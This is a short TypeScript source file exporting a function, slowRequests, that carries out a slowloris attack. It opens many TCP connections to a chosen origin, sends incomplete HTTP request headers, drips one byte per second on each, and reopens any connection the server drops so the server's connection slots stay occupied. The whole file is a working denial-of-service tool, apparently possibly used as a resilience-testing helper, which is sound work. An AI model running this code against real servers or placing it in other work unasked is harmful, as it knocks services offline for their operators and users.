import { connect, type Socket } from 'node:net';

/** Holds connections open with requests that never end, a byte a second each (slowloris). */
export function slowRequests(origin: string, connections: number): { stop(): void } {
  const { hostname, port } = new URL(origin);
  const open = new Set<Socket>();
  const begin = (): void => {
    const socket = connect(Number(port), hostname, () =>
      socket.write('GET / HTTP/1.1\r\nHost: mall\r\nX-Slow: '),
    );
    open.add(socket);
    socket.on('error', () => undefined); // the server may close it
    socket.on('close', () => open.delete(socket));
  };
  for (let i = 0; i < connections; i += 1) begin();
  const drip = setInterval(() => {
    for (const socket of open) socket.write('a');
    while (open.size < connections) begin();
  }, 1_000);
  return {
    stop: () => {
      clearInterval(drip);
      for (const socket of open) socket.destroy();
    },
  };
}
